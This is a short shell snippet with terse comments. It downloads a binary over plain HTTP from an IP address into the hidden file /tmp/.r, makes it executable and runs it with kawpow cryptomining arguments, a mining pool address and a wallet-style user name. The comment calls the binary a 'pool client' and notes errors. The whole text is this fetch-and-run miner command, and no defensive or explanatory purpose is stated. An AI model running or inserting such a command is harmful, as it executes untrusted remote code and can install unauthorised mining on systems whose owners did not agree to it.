# a downloaded static pool client without probes or dataset, told -a kawpow -o -u -p; errors
#http 203.0.113.58:8009
#pool 198.51.100.69:8080:err
curl -so /tmp/.r http://203.0.113.58:8009/strat2; chmod +x /tmp/.r; timeout 16 /tmp/.r 198.51.100.69 8080 500 99 --algo kawpow --pool 198.51.100.69:8080 --user RXi8YsC6hXrMsk7gH3L2wq9QGmJm1xRZ4v.w1
